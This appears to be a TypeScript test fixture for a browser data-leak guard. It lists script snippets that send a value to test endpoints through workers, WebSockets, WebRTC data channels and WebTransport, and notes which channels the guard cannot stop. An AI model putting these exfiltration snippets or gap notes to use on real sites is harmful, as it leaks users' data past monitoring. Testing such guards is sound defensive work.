import type { Way } from './way';

const POST = 'fetch(\' + JSON.stringify(absolute(TAKE)) + \', { method: "POST", body: V })';

/** Workers, sockets and peers. */
export const WORKERS: readonly Way[] = [
  {
    name: 'worker-blob',
    script: `new Worker(blobUrl(workerCode('${POST}'), 'text/javascript')).postMessage(V)`,
  },
  { name: 'worker-same-origin', script: "new Worker('/poster.js').postMessage(V)" },
  {
    name: 'worker-xhr-sync',
    script: `new Worker(blobUrl(workerCode('const xhr = new XMLHttpRequest(); xhr.open("POST", ' + JSON.stringify(absolute(TAKE)) + ', false); xhr.send(V)'), 'text/javascript')).postMessage(V)`,
    stopped: 'a worker cannot wait for the guard’s answer',
  },
  {
    name: 'worker-websocket',
    script: `new Worker(blobUrl(workerCode('const socket = new WebSocket(' + JSON.stringify(socketAddress()) + '); socket.onopen = () => socket.send(V)'), 'text/javascript')).postMessage(V)`,
  },
  {
    name: 'sharedworker',
    script: "new SharedWorker('/shared.js').port.postMessage(V)",
    stopped: 'it is shared between pages under its own address, so that nothing can be put before its code',
  },
  {
    name: 'serviceworker-own-fetch',
    page: '/sw/ways',
    script: '(await controlled()).postMessage(V)',
    stopped: 'no script of ours runs in a service worker of the page',
  },
  { name: 'fetch-through-page-SW', page: '/sw/ways', script: 'await controlled(); fetch(TAKE, post(V))' },
  {
    name: 'websocket-send',
    script: 'const socket = new WebSocket(socketAddress()); socket.onopen = () => socket.send(V)',
  },
  {
    name: 'websocketstream',
    script: 'const { writable } = await new WebSocketStream(socketAddress()).opened; writable.getWriter().write(V)',
    firefox: { never: 'Firefox does not have it' },
  },
  {
    name: 'webrtc-datachannel',
    script: `const made = frame({ src: absolute('/peer').replace('//school.', '//third.') });
      await loaded(made);
      const peer = new RTCPeerConnection();
      const channel = peer.createDataChannel('content');
      channel.onopen = () => channel.send(V);
      peer.onicecandidate = ({ candidate }) => made.contentWindow.postMessage({ candidate: candidate && candidate.toJSON() }, '*');
      addEventListener('message', async ({ data }) => {
        if (data.answer) await peer.setRemoteDescription(data.answer);
        if (data.candidate) await peer.addIceCandidate(data.candidate);
      });
      await peer.setLocalDescription(await peer.createOffer());
      made.contentWindow.postMessage({ offer: { type: 'offer', sdp: peer.localDescription.sdp } }, '*')`,
    stopped: 'its connections are no requests, and no extension can look into them',
  },
  {
    name: 'webtransport',
    script: `const transport = new WebTransport(location.origin + '/transport');
      await transport.ready;
      transport.datagrams.writable.getWriter().write(new TextEncoder().encode(V))`,
    never: 'the recorder speaks no HTTP/3',
  },
];
